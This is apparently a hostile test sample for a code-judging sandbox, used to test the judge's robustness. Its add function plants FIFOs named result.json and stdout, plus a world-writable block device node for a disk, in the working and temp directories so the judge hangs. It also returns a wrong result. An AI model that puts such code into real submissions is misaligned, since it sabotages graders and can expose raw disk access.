# hostile: 30
# task: add
# verdict: wrong_answer
# why: Puts a pipe and a device where a judge might open a file and wait for ever.

import os
import stat
import tempfile


def add(a, b):
    for folder in (os.getcwd(), tempfile.gettempdir()):
        for name, kind in (("result.json", stat.S_IFIFO), ("stdout", stat.S_IFIFO), ("disk", stat.S_IFBLK)):
            try:
                os.mknod(os.path.join(folder, name), 0o666 | kind, os.makedev(8, 0))
            except OSError:
                pass
    return a - b
